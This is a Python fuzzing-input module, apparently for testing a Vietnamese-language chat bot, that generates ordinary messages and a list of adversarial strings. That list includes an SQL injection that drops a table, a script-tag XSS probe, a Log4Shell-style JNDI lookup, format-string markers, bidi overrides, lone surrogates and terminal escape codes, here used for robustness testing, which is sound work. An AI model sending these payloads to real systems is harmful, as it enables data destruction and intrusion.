"""What people write, and what nobody should: texts for a generator to draw from."""

import unicodedata
from random import Random

import handlers
from locales import texts

COMMANDS = tuple(each.command for each in handlers.CONVERSATIONS if each.command)
WORDS = tuple(
    sorted(
        word for each in handlers.CONVERSATIONS if each.open_ is not None for word in texts.words(f"{each.name}.words")
    )
)

PLAIN = (
    "xong",
    "đồng ý",
    "không",
    "có",
    "hôm nay",
    "1/3/2027",
    "5-3",
    "2",
    "1",
    "0",
    "Đoàn phường Một",
    "Công viên Gia Định",
    "Cần thêm danh sách có chữ ký.",
    "Em gửi ảnh buổi tình nguyện ạ",
    "https://example.invalid/tin-bai",
    "K7Q2-M9XD",
    "Tham gia hiến máu " * 40,
)

HOSTILE = (
    "\u200b\u200d\ufeff",
    "\u202eđảo ngược\u202c",
    "\u2067\u2066abc\u2069",
    "\x00",
    "a\x00b",
    "\ud800",
    "\udfff\ud83d",
    "👨‍👩‍👧‍👦🏳️‍🌈👍🏿" * 30,
    "Z̴̡̢͓̳͔̲̰̟͉͔̦̱͍̈́̃̓̎́͝͠a̶l̵g̸o̷" * 20,
    unicodedata.normalize("NFD", "nộp minh chứng đăng ký nhiệm vụ"),
    "'; DROP TABLE people; --",
    '" OR 1=1 /*',
    "<b>đậm</b><script>alert(1)</script>&amp;&#0;",
    "{ $name }",
    "{ reviews.approved }",
    '{"kind": "inspected", "text": "1"}',
    "{0.__class__}%s%n${jndi:ldap://x}",
    "*_[a](tg://user?id=1)_*`",
    "/",
    "//",
    "/menu@",
    "/start@x@y ",
    "@",
    "?",
    " ",
    "\n\n\n",
    "\u3000\u00a0\u2028\u2029",
    "２０２７",
    "٣/٣/٢٠٢٧",
    "²/³",
    "2027 99999999999999999999 1",
    "0/0/0",
    "31/02/2027",
    "1/1/99",
    "-1",
    "1e999",
    "NaN",
    "0x10",
    "²",
    "½",
    "٣",
    "ﬀ",
    "ß" * 8,
    "İ" * 8,
    "start=" * 9,
    "A" * 32,
    "-" * 32,
    "AAAA–AAAA",
    "ACDE FGHJ",
    "𝐚𝐛𝐜",
    "\U0010ffff\ue000\ufffe",
    "\x1b[31m\x07\x08\r",
)


def plain(draw: Random) -> str:
    """Return something a person may well write."""
    return draw.choice((draw.choice(COMMANDS), draw.choice(WORDS), draw.choice(PLAIN), draw.choice(PLAIN)))


def hostile(draw: Random) -> str:
    """Return something meant to hurt."""
    match draw.randrange(8):
        case 0:
            return draw.choice(HOSTILE) * draw.choice((4096 // 4, 4096, 20_000)) if draw.random() < 0.1 else "x" * 4096
        case 1:
            return "".join(chr(draw.randrange(1, 0x3000)) for _ in range(draw.randrange(1, 60)))
        case 2:
            return draw.choice(HOSTILE) + plain(draw) + draw.choice(HOSTILE)
        case 3:
            return "9" * draw.choice((5, 19, 20, 400, 5000)) + draw.choice(("", "/1/2027", " 1 2027"))
        case 4:
            return unicodedata.normalize(draw.choice(("NFD", "NFKD")), plain(draw)).swapcase()
        case _:
            return draw.choice(HOSTILE)


def said(text: str) -> str:
    """Return what a channel is left with of `text`: no NUL, no lone surrogate."""
    return "".join(c for c in text if c != "\x00" and not "\ud800" <= c <= "\udfff")
